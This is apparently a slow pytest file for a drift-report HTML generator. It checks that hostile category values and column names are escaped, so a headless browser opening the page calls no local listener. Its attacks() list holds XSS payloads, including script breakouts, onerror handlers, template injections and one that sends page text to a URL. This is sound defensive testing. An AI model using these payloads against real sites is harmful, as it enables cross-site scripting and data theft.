"""Values are data on Evidently's page too: a browser that opens it sends nothing anywhere, whatever the rows hold."""

from __future__ import annotations

import shutil
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from drift.report.evidently_page import Sides, evidently_page, with_bar
from drift.report.harmless import harmless, sealed
from drift.report.night_report import _filled, write_report
from drift.watch import watch
from pages.rendering import REPORT_POLICY, whole_report
from scoring.job.definition import Job
from scoring.stores.lake import Lake
from tests.conftest import Toy
from tests.support.living import add_nights, score
from tests.support.toy import NIGHT

pytestmark = pytest.mark.slow
BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@dataclass
class Listener:
    """A server that remembers what it was asked, and serves pages."""

    url: str = ""
    asked: list[str] = field(default_factory=list)
    pages: dict[str, bytes] = field(default_factory=dict)


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            content = made.pages.get(self.path)
            if content is None and self.path != "/favicon.ico":
                made.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Security-Policy", REPORT_POLICY if content else "default-src 'none'")
            self.end_headers()
            self.wfile.write(content or b"")

        def log_message(self, *arguments: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.url = f"http://127.0.0.1:{server.server_port}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield made
    server.shutdown()
    server.server_close()
    thread.join()


def attacks(url: str) -> list[str]:
    """Return values that would call ``url`` if a page took them for anything but text."""
    return [
        f"</script><script>location='{url}/end?'+document.body.innerText</script>",
        f"<img src={url}/img onerror=\"location='{url}/onerror'\">",
        f"\u2029';location='{url}/line';'",
        f"&lt;/script&gt;&lt;script&gt;location='{url}/entity'&lt;/script&gt;",
        f'"}}]}};location="{url}/json";var x={{"a":[{{"b":"',
        f'<a href="{url}/link" ping="{url}/ping">click</a><meta http-equiv=refresh content=\'0;url={url}/meta\'>',
        f"${{location='{url}/template'}}{{{{location='{url}/jinja'}}}}",
    ]


def opened(address: str) -> str:
    """Return what a page holds after a headless browser has run its scripts for some seconds."""
    assert BROWSER is not None
    with tempfile.TemporaryDirectory(prefix="nightshift-browser-") as profile:
        command = [
            BROWSER,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-background-networking",
            f"--user-data-dir={profile}",
            "--virtual-time-budget=4000",
            "--dump-dom",
            address,
        ]
        return subprocess.run(command, check=True, capture_output=True, text=True, timeout=120).stdout


def hostile_page(job: Job, values: list[str], folder: Path) -> Path:
    """Write the page of a night whose categories, column names and bar are ``values``, with its shared files."""
    name = values[0]
    feature = job.features["kind"]
    job = job.model_copy(update={"features": {"x": job.features["x"], name: feature}})
    random = np.random.default_rng(0)
    columns = {"x": random.normal(size=300), name: np.resize(values, 300), "probability": random.random(300)}
    side = pd.DataFrame(columns)
    made = evidently_page(Sides(side, side), job, pd.Timestamp("2024-01-07"), {"job": values[0]}, "../../assets")
    bar = dict.fromkeys(("job", "night", "model_version", "run", "version", "verdict", "rows", "of", "reference"), name)
    path = folder / "reports" / "toy" / "night=2024-01-07" / "drift.html"
    path.parent.mkdir(parents=True)
    path.write_text(with_bar(made.html, _filled({**bar, "notes": " ".join(values)})), encoding="utf-8")
    (folder / "reports" / "assets").mkdir()
    for asset, content in made.assets.items():
        (folder / "reports" / "assets" / asset).write_text(content, encoding="utf-8")
    return path


def served(path: Path, listener: Listener) -> str:
    """Return the address of a page as the web application serves it."""
    lake = Lake(str(path.parents[3]))
    whole = whole_report(path.read_text(encoding="utf-8"), lambda below: lake.read_text(lake.below(f"reports/{below}")))
    listener.pages["/page"] = whole.encode()
    return f"{listener.url}/page"


@contextmanager
def nothing_escaped(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """As it was before: values go into the page as they are."""
    with monkeypatch.context() as patched:
        for name in ("harmless", "sealed"):
            patched.setitem(evidently_page.__globals__, name, lambda text: text)
        yield


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium (Debian: chromium)")
@pytest.mark.nightly
def test_value_that_begins_a_comment_leaves_the_page_whole(plain_job: Job, listener: Listener, tmp_path: Path) -> None:
    shown = opened(hostile_page(plain_job, [f"<!--<script>location='{listener.url}/comment'//"], tmp_path).as_uri())
    assert "Dataset Drift" in shown
    assert "!--\u2039script\u203a" in shown
    assert listener.asked == []


@pytest.mark.skipif(BROWSER is None, reason="needs Chromium (Debian: chromium)")
def test_page_of_hostile_values_calls_nobody_as_a_file_or_served(
    plain_job: Job, listener: Listener, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = hostile_page(plain_job, attacks(listener.url), tmp_path)
    for address in (path.as_uri(), served(path, listener)):
        shown = opened(address)
        assert "Columns" in shown.partition("<body>")[2], address  # its scripts ran
        assert "/script\u203a" in shown
    assert listener.asked == []
    with nothing_escaped(monkeypatch):
        open_to_all = hostile_page(plain_job, attacks(listener.url), tmp_path / "before")
    opened(open_to_all.as_uri())
    assert listener.asked  # the listener would have heard it


def test_hostile_category_of_a_night_reaches_its_page_as_text_only(toy: Toy) -> None:
    evil = "</script><script>alert(1)</script>"
    toy.change(gate={"max_mean_shift_sd": 99})
    add_nights(toy, [NIGHT], lambda rows: rows.assign(kind=np.where(rows["id"] % 3 == 0, evil, rows["kind"])))
    watch(toy.work, score(toy, NIGHT), write_report)
    page = toy.stores.lake.read_text(toy.stores.lake.below(toy.stores.lake.report(toy.job.name, NIGHT)))
    assert evil not in page
    assert harmless(evil).encode("ascii", "backslashreplace").decode() in page
    assert page.index("Content-Security-Policy") < page.index("<script")


def test_page_of_another_form_is_refused_rather_than_left_without_a_policy() -> None:
    with pytest.raises(ValueError, match="another form"):
        sealed("<html><head><meta charset=utf-8></head></html>")
